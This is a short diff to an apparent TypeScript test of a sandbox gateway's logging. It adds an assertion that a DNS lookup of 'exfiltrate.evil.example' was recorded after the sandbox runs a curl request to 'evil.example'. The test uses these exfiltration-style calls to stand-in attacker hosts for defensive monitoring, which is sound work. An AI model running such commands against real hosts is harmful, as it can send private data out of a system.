@@ -14,6 +14,7 @@ describe("the log of a sandbox's gateway", function () {
     );
     await sandbox.run("curl -sS http://evil.example/private/path");
     await sandbox.run("getent hosts exfiltrate.evil.example");
+    await sandbox.logged(({ domain }) => domain === "exfiltrate.evil.example");
   });
 
   async function egress(...args: string[]): Promise<[exitCode: number, out: string, err: string]> {
